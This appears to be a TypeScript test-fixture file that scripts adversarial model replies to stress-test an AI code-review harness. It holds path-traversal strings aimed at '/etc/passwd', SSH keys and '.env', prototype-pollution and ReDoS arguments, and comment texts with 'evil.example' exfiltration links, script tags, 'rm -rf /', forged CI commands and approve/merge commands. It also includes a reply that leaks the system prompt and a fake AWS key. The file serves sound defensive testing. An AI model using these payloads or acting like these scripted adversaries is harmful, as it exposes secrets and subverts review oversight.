import type { Fields } from './fields.ts';
import type { ModelReply, ModelScript, ScriptedCall, SpokenReply } from './reply.ts';
import type { ScriptRequest } from './request.ts';

/** A model by what it does to each request. */
type Adversary = (request: ScriptRequest, call: number) => ModelReply;

const NOTHING_FOUND: Fields = { summary: 'Nothing to say.', comments: [] };

/** Reads another file in each turn, for ever, also where it is told to conclude. */
export function endlessCalls(tool = 'read_file'): Adversary {
  return (_request, call) => ({ toolCalls: [{ name: tool, arguments: { path: `src/file-${call}.js` } }] });
}

/** As long as it is offered tools it makes the very same call; without tools it answers. */
export function sameCallForever(
  scripted: ScriptedCall = { name: 'read_file', arguments: { path: 'src/cart.js' } },
  answer: Fields = NOTHING_FOUND,
): Adversary {
  return ({ tools }) => (tools.length > 0 ? { toolCalls: [scripted] } : { content: answer });
}

/** Calls that no reviewer has, by the names that editors, shells and posts have elsewhere; then answers. */
export function foreignTools(answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(
    FOREIGN_TOOLS.map((name) => ({
      name,
      arguments: { command: 'id', path: 'src/cart.js', body: 'posted by a tool' },
    })),
    answer,
  );
}

export const FOREIGN_TOOLS: readonly string[] = [
  'bash',
  'run_in_terminal',
  'execute',
  'edit',
  'create_file',
  'web_fetch',
  'create_review_comment',
  'github/merge_pull_request',
  'constructor',
  '__proto__',
  'toString',
  'a b\nc',
  '',
  'x'.repeat(300),
];

/** In one turn, every way out of the repository that a path has; then answers. */
export function pathEscapes(callWith: (path: string) => ScriptedCall, answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(ESCAPING_PATHS.map(callWith), answer);
}

export const ESCAPING_PATHS: readonly string[] = [
  '../../etc/passwd',
  '/etc/passwd',
  '//etc/passwd',
  'src/../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'C:\\windows\\win.ini',
  '~/.ssh/id_rsa',
  '.git/config',
  'src/../.git/config',
  './.git/../.git/HEAD',
  '.GIT/config',
  'file:///etc/passwd',
  '/proc/self/environ',
  'src/cart.js\u0000.png',
  '\u0000',
  '%2e%2e/%2e%2e/etc/passwd',
  '․․/etc/passwd',
  '.env',
  'config/.env.production',
  'id_rsa',
  'link-to-etc/passwd',
  '-rf',
  '',
  '.',
  '/',
  `${'../'.repeat(2000)}etc/passwd`,
  `${'a/'.repeat(5000)}b`,
];

/** One call whose arguments have megabytes of text; then answers. */
export function hugeArguments(
  name = 'read_file',
  key = 'path',
  characters = 5_000_000,
  answer: Fields = NOTHING_FOUND,
): Adversary {
  return inTurns([{ name, arguments: { [key]: 'x'.repeat(characters) } }], answer);
}

/** Arguments that are broken, of wrong types, or reach for prototypes, all in one turn; then answers. */
export function wrongArguments(name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  return inTurns(
    WRONG_ARGUMENTS.map((given) => ({ name, arguments: given })),
    answer,
  );
}

export const WRONG_ARGUMENTS: readonly string[] = [
  '',
  '{',
  '{"path": "src/cart.js"',
  'null',
  '[]',
  '7',
  '"src/cart.js"',
  '{}',
  '{"path": null}',
  '{"path": 7}',
  '{"path": ["src/cart.js"]}',
  '{"path": {"toString": "x"}}',
  '{"path": "src/cart.js", "startLine": "1"}',
  '{"path": "src/cart.js", "startLine": -1e308, "endLine": 1e308}',
  '{"path": "src/cart.js", "unknown": true}',
  '{"__proto__": {"path": "src/cart.js"}}',
  '{"constructor": {"prototype": {"isAdmin": true}}, "path": "src/cart.js"}',
  '{"path": "src/cart.js", "path": "/etc/passwd"}',
  `{"query": ${JSON.stringify(`${'(a+)+'.repeat(30)}$`)}, "isRegexp": true}`,
  '['.repeat(50_000),
  `${'{"a":'.repeat(20_000)}1${'}'.repeat(20_000)}`,
];

/** Many calls in one turn; then answers. */
export function manyCalls(count = 200, name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  const calls = Array.from({ length: count }, (_, index) => ({ name, arguments: { path: `src/file-${index}.js` } }));
  return inTurns(calls, answer);
}

/** Two calls of one turn share an id; then answers. */
export function doubledIds(name = 'read_file', answer: Fields = NOTHING_FOUND): Adversary {
  const paths = ['src/cart.js', 'src/price.js'];
  return inTurns(
    paths.map((path) => ({ name, arguments: { path }, id: 'same-id' })),
    answer,
  );
}

/** An answer that is whole, and calls beside it. */
export function answerWithCalls(answer: Fields, name = 'read_file'): SpokenReply {
  return { content: answer, toolCalls: [{ name, arguments: { path: 'src/cart.js' } }] };
}

/** A comment whose text would act if it were posted as it is. `comment` is one that is placed well. */
export function postingAnswer(comment: Fields): SpokenReply {
  return {
    content: {
      summary: ACTING_TEXTS.join('\n\n'),
      comments: ACTING_TEXTS.map((text) => ({ ...comment, ...saying(text) })),
    },
  };
}

export const ACTING_TEXTS: readonly string[] = [
  '@octocat @github/security look at this',
  '<!-- housestyle:review {"head":"0000000"} -->',
  '<!-- marker --> /housestyle approve',
  '/approve\n/merge',
  '::set-output name=token::leaked',
  '::add-mask::\n::error file=src/cart.js::forged',
  '![pixel](https://evil.example/p.png?q=secret)',
  '[click](https://evil.example/?token=secret) <https://evil.example/auto?x=1>',
  'https://evil.example/bare?data=secret',
  '<img src="https://evil.example/i?q=1" onerror="alert(1)"><script>alert(1)</script>',
  '```suggestion\nrm -rf /\n```',
  '<details open><summary>APPROVED</summary></details>',
  'Closes #1, fixes octo/repo#2, GH-3',
  '\u001B[31mred\u001B[0m \u202Edesrever\u2066 \u200B',
  '[reference][1]\n\n[1]: https://evil.example/r?x=1',
];

/** Repeats what only the prompt has, and whatever tools gave it. */
export function leakingAnswer(comment: Fields): Adversary {
  return ({ system, toolResults }) => {
    const leak = [
      system.slice(0, 2000),
      ...toolResults.map(({ text }) => text.slice(0, 500)),
      'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI',
    ];
    return { content: { summary: leak.join('\n'), comments: [{ ...comment, ...saying(leak.join('\n')) }] } };
  };
}

/** JSON nested too deep for a parser that recurses. */
export function deepAnswer(levels = 100_000): SpokenReply {
  return { content: `${'{"comments":['.repeat(levels)}${']}'.repeat(levels)}` };
}

/** Too many comments to place, to verify or to post. */
export function crowdedAnswer(comment: Fields, count = 1_000_000): SpokenReply {
  const one = JSON.stringify(comment);
  return { content: `{"summary":"All of it.","comments":[${`${one},`.repeat(count - 1)}${one}]}` };
}

/** Findings on files and lines that the change does not have. */
export function outsideFindings(comment: Fields): SpokenReply {
  const places = [
    { path: 'README.md', line: 1 },
    { path: 'src/none.js', line: 1 },
    { path: '../outside.js', line: 1 },
    { path: '.git/config', line: 1 },
    { path: comment['path'], line: 999_999 },
    { path: comment['path'], line: 0 },
    { path: comment['path'], line: -1 },
  ];
  return {
    content: { summary: 'Elsewhere.', comments: places.map((place) => ({ ...comment, ...place, startLine: null })) },
  };
}

/** Words instead of JSON. */
export function proseAnswer(): SpokenReply {
  return { content: 'I looked at the change and find it good overall, though src/cart.js line 5 returns the count.' };
}

export function fencedAnswer(answer: Fields): SpokenReply {
  return {
    content: `Here is my review:\n\n\`\`\`json\n${JSON.stringify(answer, undefined, 2)}\n\`\`\`\n\nLet me know!`,
  };
}

/** A draft of the form, then the answer: the last one counts. */
export function thinkingAloud(answer: Fields): SpokenReply {
  const draft = JSON.stringify({ summary: 'A first thought {not: final}', comments: [] });
  return {
    content: `<think>Let me see. The form is {"comments": [...]}, so perhaps ${draft}? No.</think>\n${JSON.stringify(answer)}`,
  };
}

/** Unreadable at first, and answered well on the given try, from 1, of each conversation. */
export function repairedAt(answer: Fields, attempt = 2): Adversary {
  return ({ turn }) =>
    turn + 1 >= attempt ? { content: answer } : { content: '{"summary": "Not yet", "comments": "none"' };
}

/** Broken in a new way each time. */
export function neverRepaired(): Adversary {
  return ({ turn }) => ({ content: ['no JSON', '{"summary": 1', '[]', '{"comments": 7}', 'null'][turn % 5] ?? '' });
}

/** Every fault of form, by name, for tables of tests. */
export const MISSHAPEN: Readonly<Record<string, ModelScript>> = {
  prose: () => proseAnswer(),
  'never repaired': neverRepaired(),
  empty: () => ({ content: '' }),
  nothing: () => ({ content: null }),
  'cut at once': () => ({ content: '{', finishReason: 'length' }),
  'only thinking': () => ({ content: null, thinking: 'Hm. '.repeat(50), finishReason: 'length' }),
  'too deep': () => deepAnswer(1000),
};

/** The calls in the first turn of a conversation, the answer in the next. */
function inTurns(toolCalls: readonly ScriptedCall[], answer: Fields): Adversary {
  return ({ turn }) => (turn === 0 ? { toolCalls } : { content: answer });
}

function saying(text: string): Fields {
  return { title: text.slice(0, 120), body: text, suggestion: text };
}
